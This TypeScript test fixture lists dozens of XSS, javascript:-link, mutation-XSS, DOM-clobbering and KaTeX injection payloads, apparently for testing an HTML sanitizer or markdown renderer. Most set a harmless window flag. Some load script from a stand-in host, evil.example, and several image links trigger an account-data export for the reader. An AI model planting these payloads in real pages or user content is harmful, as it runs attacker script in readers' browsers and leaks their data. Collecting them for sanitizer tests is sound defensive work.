/**
 * Text that tries to become more than text. The kinds of attack are those of OWASP's filter evasion cheat sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html) and of DOMPurify's test cases
 * (https://github.com/cure53/DOMPurify, test/fixtures); the lines are ours. Each would set `pwned` on the window.
 */
const set = 'window.pwned=1';

const elements = [
  `<script>${set}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${set}</scr</script>ipt>`,
  `<img src=x onerror=${set}>`,
  `<img src="x" onerror="${set}"//`,
  `<IMG """><SCRIPT>${set}</SCRIPT>">`,
  `<svg onload=${set}>`,
  `<svg><script>${set}</script></svg>`,
  `<svg><animate onbegin=${set} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${set}</script></svg>#x"/></svg>`,
  `<body onload=${set}>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="javascript:${set}"></object>`,
  `<embed src="data:text/html,<script>parent.pwned=1</script>">`,
  `<details open ontoggle=${set}>x</details>`,
  `<video><source onerror="${set}"></video>`,
  `<audio src=x onerror=${set}></audio>`,
  `<input autofocus onfocus=${set}>`,
  `<select autofocus onfocus=${set}></select>`,
  `<marquee onstart=${set}>x</marquee>`,
  `<a href="javascript:${set}">x</a>`,
  `<form action="javascript:${set}"><button>x</button></form>`,
  `<button form=f formaction="javascript:${set}">x</button>`,
  `<base href="javascript:/a/-${set}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${set}">`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${set})}">`,
  `<style>@import 'javascript:${set}';</style>`,
  `<div style="background:url(javascript:${set})" onmouseover=${set}>x</div>`,
  `<table background="javascript:${set}"></table>`,
  `<!--[if gte IE 4]><script>${set}</script><![endif]-->`,
  `<!-- --!><img src=x onerror=${set}> -->`,
  `<![CDATA[><img src=x onerror=${set}>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${set}</x:script>`,
  `<template><script>${set}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${set}>"></noscript>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${set}></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><script>${set}</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${set}>`,
  `<select><style></select><img src=x onerror=${set}></style>`,
  `<title><a title="</title><img src=x onerror=${set}>"></title>`,
  `<textarea></textarea><img src=x onerror=${set}></textarea>`,
  `<xmp><p title="</xmp><img src=x onerror=${set}>"></xmp>`,
  `<img name=getElementById><img id=pwned><form id=location><input name=href></form>`,
  `<a id=defaultView><a id=defaultView name=pwned href=x>`,
  `<custom-element onclick=${set}>x</custom-element>`,
  `<p is="x-pwn" slot="x">x</p>`,
  `<<img src=x onerror=${set}//<`,
  `<img/src/onerror=${set}>`,
  `<img\u000b src=x onerror=${set}>`,
  `\uFF1Cscript\uFF1E${set}\uFF1C/script\uFF1E`,
  `&lt;script&gt;${set}&lt;/script&gt;`,
  `&#60;img src=x onerror=${set}&#62;`,
];

const links = [
  `[x](javascript:${set})`,
  `[x](JaVaScRiPt:${set})`,
  `[x](java&#115;cript:${set})`,
  `[x](javascript&colon;${set})`,
  `[x](<java\tscript:${set}>)`,
  `[x](\u0001javascript:${set})`,
  `[x](vbscript:msgbox)`,
  `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
  `[x](//evil.example "onmouseover=${set}")`,
  `[x](https://example.org" onmouseover="${set})`,
  `![x](javascript:${set})`,
  `![x" onerror="${set}](x)`,
  `![x](data:image/svg+xml,<svg onload=${set}>)`,
  // A full export for each signed-in reader, were it loaded.
  '![your data](/api/settings/export)',
  '![](/api/settings/export)',
  '[![your data](/api/settings/export)](https://example.org)',
  '![your data][api]\n\n[api]: /api/settings/export',
  `<javascript:${set}>`,
  `[x][evil]\n\n[evil]: javascript:${set}`,
  `[x]: javascript:${set}\n\n[x]`,
  `[^javascript]\n\n[^javascript]: <img src=x onerror=${set}>`,
];

const blocks = [
  `\`\`\`"><img src=x onerror=${set}>\nx\n\`\`\``,
  `\`\`\`html\n</code></pre><script>${set}</script>\n\`\`\``,
  `\`</code><img src=x onerror=${set}>\``,
  `| <img src=x onerror=${set}> | b |\n|---|---|\n| [x](javascript:${set}) | <script>${set}</script> |`,
  `- [ ] <img src=x onerror=${set}>`,
  `# <img src=x onerror=${set}>`,
  `> <svg onload=${set}>`,
  `:::spoiler <img src=x onerror=${set}>\n<script>${set}</script>\n:::`,
  `$\\href{javascript:${set}}{x}$`,
  `$\\url{javascript:${set}}$`,
  `$\\htmlData{onclick=${set}}{x}$`,
  `$\\htmlStyle{background:url(javascript:${set})}{x}$`,
  `$\\includegraphics{javascript:${set}}$`,
  `$\\text{<img src=x onerror=${set}>}$`,
  `$\\unicode{<img src=x onerror=${set}>}$`,
  `$$\\def\\a{\\a\\a}\\a$$`,
  `$\\color{red;background:url(javascript:${set})}{x}$`,
];

/** Of each kind; a paragraph each when joined. */
export const hostileTexts: string[] = [...elements, ...links, ...blocks];

/** Joined to texts of at most `limit` characters. */
export function hostilePages(limit: number): string[] {
  const pages: string[] = [''];
  for (const text of hostileTexts) {
    const last = pages.at(-1) ?? '';
    if (last.length + text.length + 2 > limit) pages.push(text);
    else pages[pages.length - 1] = last === '' ? text : `${last}\n\n${text}`;
  }
  return pages;
}
